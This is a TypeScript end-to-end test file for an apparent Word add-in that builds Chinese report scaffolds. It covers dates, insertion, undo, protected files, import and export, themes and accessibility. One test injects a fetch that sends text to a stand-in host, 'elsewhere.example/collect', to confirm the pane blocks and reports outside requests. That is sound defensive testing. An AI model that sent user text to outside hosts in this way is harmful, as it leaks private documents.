import { docx, heading, paragraph } from "../docx/docx";
import { protectedDocument } from "../docx/settings-fixtures";
import { choose, downloaded, useSite } from "./harness";
import { field, focused, menu, openPane, pane, row, sections, usual } from "./pane";
import { eventually, openWith, openWorkbench, texts } from "./workbench";

const site = useSite();

jest.setTimeout(60_000);

const open = () => openPane(site);

describe("what is asked", () => {
  test("the kind decides outline, title and period", async () => {
    const page = await openWorkbench(site);
    await field(page, "种类").click();
    await page.getByRole("option", { name: "抓基层党建述职报告" }).click();
    await row(page, /^称谓：/).waitFor();
    expect(await field(page, "期间").inputValue()).toMatch(/^20\d\d年$/);
    expect(await row(page, /^标题：/).getAttribute("aria-label")).toContain("述职");
  });

  test.each(["2026-7-3", "2026/7/3", "20260703", "2026年7月3日"])(
    "a date typed as %s is written as it is to be",
    async (typed) => {
      const page = await open();
      await field(page, "日期").fill(typed);
      await field(page, "日期").press("Tab");
      await eventually(() => field(page, "日期").inputValue(), "2026年7月3日");
      expect(await row(page, /^落款：/).getAttribute("aria-label")).toBe("落款：县档案馆党支部　2026年7月3日");
    },
  );

  test("a day that there is not is named, and keeps the scaffold out", async () => {
    const page = await open();
    const before = await texts(page);
    await field(page, "日期").fill("2026-2-30");
    await field(page, "日期").press("Tab");
    await pane(page).getByText("没有这一天。请写成 2026-7-3 或 2026年7月3日。").waitFor();
    await pane(page).getByRole("button", { name: "插入框架" }).click();
    await pane(page)
      .getByText(/^日期不对，没有插入/)
      .waitFor();
    expect(await texts(page)).toEqual(before);
  });

  test("answers are there again when the pane is opened the next time", async () => {
    const page = await open();
    await row(page, /^二、存在问题/).focus();
    await page.keyboard.press("Alt+ArrowUp");
    await page.reload();
    await row(page, /^一、存在问题/).waitFor();
    expect(await field(page, "单位").inputValue()).toBe("县档案馆党支部");
  });
});

describe("inserting", () => {
  test("at the end says what was put in, and the document can take it back", async () => {
    const page = await open();
    const before = await texts(page);
    await pane(page).getByRole("radio", { name: "文末" }).click();
    const counts = (await pane(page)
      .getByText(/^\d+ 部分，\d+ 处待填$/)
      .textContent())!;
    await pane(page).getByRole("button", { name: "插入框架" }).click();
    await pane(page).getByText(`已插入 ${counts}。`).waitFor();
    await eventually(
      () => texts(page).then((all) => all.slice(before.length, before.length + 1)),
      ["县档案馆党支部2026年上半年党建工作总结"],
    );
    expect((await texts(page)).slice(0, before.length)).toEqual(before);
    await page.getByRole("button", { name: "撤销" }).first().click();
    await eventually(() => texts(page), before);
  });

  test("beside a document with text says that another one is opened", async () => {
    const page = await open();
    await pane(page).getByRole("radio", { name: "新文档" }).click();
    await pane(page).getByText("会另开一个文档，这份不动").waitFor();
  });

  test("in an empty document a new one is proposed", async () => {
    const page = await openWith(site, "空.docx", docx());
    await eventually(() => pane(page).getByRole("radio", { name: "新文档" }).isChecked(), true);
  });

  test("into a protected document is refused with what to do", async () => {
    const page = await openWith(site, "受保护.docx", protectedDocument());
    await pane(page).getByRole("radio", { name: "文末" }).click();
    await pane(page).getByRole("button", { name: "插入框架" }).click();
    await pane(page).getByText("这份文档受保护，只能看不能改。可以检查，插入要先解除保护。").waitFor();
    expect(await texts(page)).toEqual(["受保护的文件。", "不得改动。"]);
  });
});

describe("own scaffolds", () => {
  const report = docx({
    body: [
      paragraph("县档案馆党支部2026年上半年工作总结"),
      heading(1, "一、主要工作"),
      heading(2, "（一）抓实学习"),
      heading(1, "二、体会"),
    ].join(""),
  });

  test("are taken from a document, named, exported, deleted and imported", async () => {
    const page = await openWith(site, "半年总结.docx", report);
    await pane(page).getByRole("button", { name: "以本文为框架" }).click();
    await field(page, "框架的名称").fill("本支部的总结");
    await page.keyboard.press("Enter");
    expect(await focused(page)).toMatch(/^更多/);
    expect(await page.getByRole("menu").count()).toBe(0);
    expect(await field(page, "种类").textContent()).toBe("本支部的总结");
    expect(await sections(page)).toEqual(["一、主要工作", "二、体会"]);

    const file = await downloaded(page, () => menu(page, "导出自己的框架（1）"));
    expect(file.name).toBe("拟稿框架.json");
    await menu(page, "删除框架");
    await pane(page).getByText("已删除框架“本支部的总结”。").waitFor();
    await choose(page.locator("input[type=file][accept*=json]"), file.name, file.bytes, "application/json");
    await pane(page).getByText("已导入 1 个框架。").waitFor();
    expect(await sections(page)).toEqual(["一、主要工作", "二、体会"]);
  });

  test("a file that is none is refused by name of what it should be", async () => {
    const page = await open();
    await choose(
      page.locator("input[type=file][accept*=json]"),
      "别的.json",
      new TextEncoder().encode("[]"),
      "application/json",
    );
    await pane(page)
      .getByText(/这个文件里没有框架。请选从“导出”得到的“拟稿框架\.json”。/)
      .waitFor();
    expect(await sections(page)).toEqual(usual);
  });
});

describe("the frame", () => {
  test("counts no request of its own, and every attempt to reach another origin", async () => {
    const page = await open();
    const trust = pane(page).getByRole("button", { name: /，打开本机能力$/ });
    expect(await trust.textContent()).toBe("文字不出本机 · 对外请求 0");
    await page.evaluate(() => fetch("https://elsewhere.example/collect?text=1").catch(() => undefined));
    await eventually(() => trust.textContent(), "有 1 次对外请求，点开看");
    expect(site.takeFaults().join()).toContain("elsewhere.example");
    await trust.click();
    await pane(page).getByText("对外，已拦下：https://elsewhere.example/collect").waitFor();
    await page.keyboard.press("Escape");
    await eventually(() => page.evaluate(() => document.activeElement?.textContent ?? null), "框架");
  });

  test.each(["light", "dark"] as const)("undo in a toast can be read in the %s theme", async (colorScheme) => {
    const page = await openWorkbench(site);
    await page.emulateMedia({ colorScheme });
    await row(page, /^二、/).focus();
    await page.keyboard.press("Delete");
    const undo = pane(page).getByRole("button", { name: "撤销" });
    const [color, surface] = await undo.evaluate((button) => [
      getComputedStyle(button).color,
      getComputedStyle(button.parentElement!).backgroundColor,
    ]);
    expect(color).not.toBe(surface);
  });

  test("follows the theme that is chosen, and forgets what it is told to forget", async () => {
    const page = await open();
    await pane(page).getByRole("button", { name: "设置" }).click();
    await pane(page).getByRole("radio", { name: "深色" }).click();
    await eventually(
      () =>
        pane(page)
          .locator("main")
          .evaluate((main) => getComputedStyle(main).backgroundColor),
      "rgb(41, 41, 41)",
    );
    await pane(page).getByRole("button", { name: "清除用过的单位" }).click();
    await pane(page).getByRole("button", { name: "返回框架" }).click();
    expect(await field(page, "单位").inputValue()).toBe("");
  });

  test.each([320, 360, 450])("at %i px nothing stands out at the side", async (width) => {
    const page = await openWorkbench(site, { width, height: 700 });
    await row(page, /^二、/).focus();
    await page.keyboard.press("F2");
    const wide = await pane(page).evaluate((aside) =>
      [...aside.querySelectorAll("main *")]
        .filter((element) => element.getBoundingClientRect().width > 1)
        .filter((element) => element.getBoundingClientRect().right > aside.getBoundingClientRect().right + 0.5)
        .map((element) => element.outerHTML.slice(0, 120)),
    );
    expect(wide).toEqual([]);
  });

  test("every button and field has a name", async () => {
    const page = await open();
    for (const role of ["button", "textbox", "combobox", "radio", "tab", "treeitem"] as const) {
      const all = pane(page).getByRole(role);
      expect(await all.count()).toBe(await pane(page).getByRole(role, { name: /\S/ }).count());
    }
  });
});

describe("opened where there is no Word", () => {
  const officeJs = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";

  test("the task pane says where it belongs", async () => {
    const outside = 'window.Office = { HostType: { Word: "Word" }, onReady: async () => ({ host: null }) };';
    const page = await site.open("taskpane.html", { standIns: { [officeJs]: outside } });
    await page.getByText("这一页要在 Word 里打开。没有 Word，请用工作台。").waitFor();
  });

  test("or that office.js could not be read", async () => {
    const page = await site.open("taskpane.html", { standIns: { [officeJs]: "" } });
    await page.getByText(/^窗格没有打开：读不到 office\.js。/).waitFor();
  });
});
